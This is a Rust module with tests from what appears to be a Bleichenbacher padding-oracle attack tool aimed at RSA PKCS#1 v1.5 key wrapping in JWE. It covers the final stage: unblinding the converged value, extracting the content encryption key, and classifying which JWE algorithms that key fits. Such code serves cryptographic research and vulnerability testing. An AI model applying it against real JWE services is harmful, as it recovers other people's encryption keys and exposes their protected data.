use num::bigint::BigUint;
use num::One;
use thiserror::Error;

use crate::bignat::{inv_mod, mul_mod};
use crate::key::PublicKey;
use crate::pkcs1;

/// Errors recovering the plaintext from a converged attack
#[derive(Clone, Debug, PartialEq, Eq, Error)]
pub enum Error {
    #[error("blinding factor is not invertible modulo n")]
    NotInvertible,

    #[error("recovered block is malformed: {0}")]
    Padding(#[from] pkcs1::Error),
}

/// JOSE content encryption algorithms matching a CEK length
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum CekClass {
    /// 16 bytes: A128GCM
    A128Gcm,
    /// 24 bytes: A192GCM
    A192Gcm,
    /// 32 bytes: A256GCM or A128CBC-HS256
    A256GcmOrA128CbcHs256,
    /// 48 bytes: A192CBC-HS384
    A192CbcHs384,
    /// 64 bytes: A256CBC-HS512
    A256CbcHs512,
    Unknown(usize),
}

impl CekClass {
    pub fn from_len(len: usize) -> Self {
        match len {
            16 => CekClass::A128Gcm,
            24 => CekClass::A192Gcm,
            32 => CekClass::A256GcmOrA128CbcHs256,
            48 => CekClass::A192CbcHs384,
            64 => CekClass::A256CbcHs512,
            _ => CekClass::Unknown(len),
        }
    }

    /// JWE "enc" values consistent with the CEK length
    pub fn algorithms(&self) -> &'static [&'static str] {
        match self {
            CekClass::A128Gcm => &["A128GCM"],
            CekClass::A192Gcm => &["A192GCM"],
            CekClass::A256GcmOrA128CbcHs256 => &["A256GCM", "A128CBC-HS256"],
            CekClass::A192CbcHs384 => &["A192CBC-HS384"],
            CekClass::A256CbcHs512 => &["A256CBC-HS512"],
            CekClass::Unknown(_) => &[],
        }
    }
}

/// Plaintext recovered by a successful attack, with structural findings
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Recovery {
    /// The content encryption key carried by the block
    pub cek: Vec<u8>,
    /// The full k-byte PKCS#1 v1.5 block
    pub encoded: Vec<u8>,
    pub padding_len: usize,
    pub modulus_bits: u64,
    pub cek_class: CekClass,
    /// Whether the ciphertext had to be blinded before searching
    pub blinded: bool,
    pub queries: u64,
}

/// Recover the original plaintext from the converged value `a`
///
/// Undoes blinding, m = a * s0**-1 mod n, then strips the PKCS#1 v1.5 header
pub fn recover(key: &PublicKey, a: &BigUint, s0: &BigUint, queries: u64) -> Result<Recovery, Error> {
    let blinded = !s0.is_one();

    let m = if blinded {
        let s0_inv = inv_mod(s0, key.n()).ok_or(Error::NotInvertible)?;
        mul_mod(a, &s0_inv, key.n())
    } else {
        a.clone()
    };

    let encoded = key.to_octets(&m);
    let decoded = pkcs1::decode(&encoded, key.k())?;
    let cek = decoded.message.to_vec();
    let padding_len = decoded.padding_len;

    Ok(Recovery {
        cek_class: CekClass::from_len(cek.len()),
        cek,
        encoded,
        padding_len,
        modulus_bits: key.bits(),
        blinded,
        queries,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    // 16-byte modulus, 2**121 + 1 is coprime to 7
    fn key() -> PublicKey {
        let n = (BigUint::one() << 121_usize) + 1_u32;
        PublicKey::new(n, BigUint::from(3_u8)).unwrap()
    }

    fn block(k: usize, msg: &[u8]) -> Vec<u8> {
        let mut em = pkcs1::HEADER.to_vec();
        em.extend_from_slice(&vec![0x5a_u8; k - 3 - msg.len()]);
        em.push(0x00);
        em.extend_from_slice(msg);
        em
    }

    #[test]
    fn check_recover_unblinded() {
        let key = key();
        let em = block(key.k(), b"cek".as_ref());
        let m = BigUint::from_bytes_be(&em);

        let recovery = recover(&key, &m, &BigUint::one(), 42).unwrap();

        assert_eq!(recovery.cek, b"cek".to_vec());
        assert_eq!(recovery.encoded, em);
        assert_eq!(key.k(), 16);
        assert_eq!(recovery.padding_len, key.k() - 3 - b"cek".len());
        assert_eq!(recovery.modulus_bits, 122);
        assert_eq!(recovery.cek_class, CekClass::Unknown(3));
        assert!(!recovery.blinded);
        assert_eq!(recovery.queries, 42);
    }

    #[test]
    fn check_recover_blinded() {
        let key = key();
        let em = block(key.k(), b"cek".as_ref());
        let m = BigUint::from_bytes_be(&em);
        let s0 = BigUint::from(7_u8);

        // the attack converges on m * s0 mod n
        let a = mul_mod(&m, &s0, key.n());
        let recovery = recover(&key, &a, &s0, 1).unwrap();

        assert_eq!(recovery.cek, b"cek".to_vec());
        assert_eq!(recovery.encoded, em);
        assert!(recovery.blinded);
    }

    #[test]
    fn check_recover_malformed() {
        let key = key();
        let mut em = block(key.k(), b"cek".as_ref());
        em[1] = 0x01;
        let m = BigUint::from_bytes_be(&em);

        assert_eq!(
            recover(&key, &m, &BigUint::one(), 1),
            Err(Error::Padding(pkcs1::Error::InvalidHeader))
        );

        let short = block(key.k(), b"too long".as_ref());
        assert_eq!(
            recover(&key, &BigUint::from_bytes_be(&short), &BigUint::one(), 1),
            Err(Error::Padding(pkcs1::Error::ShortPadding(5)))
        );

        // 2**121 + 1 is divisible by 3
        assert_eq!(
            recover(&key, &m, &BigUint::from(3_u8), 1),
            Err(Error::NotInvertible)
        );
    }

    #[test]
    fn check_cek_class() {
        assert_eq!(CekClass::from_len(16), CekClass::A128Gcm);
        assert_eq!(CekClass::from_len(32).algorithms(), ["A256GCM", "A128CBC-HS256"]);
        assert_eq!(CekClass::from_len(64), CekClass::A256CbcHs512);
        assert!(CekClass::from_len(20).algorithms().is_empty());
    }
}
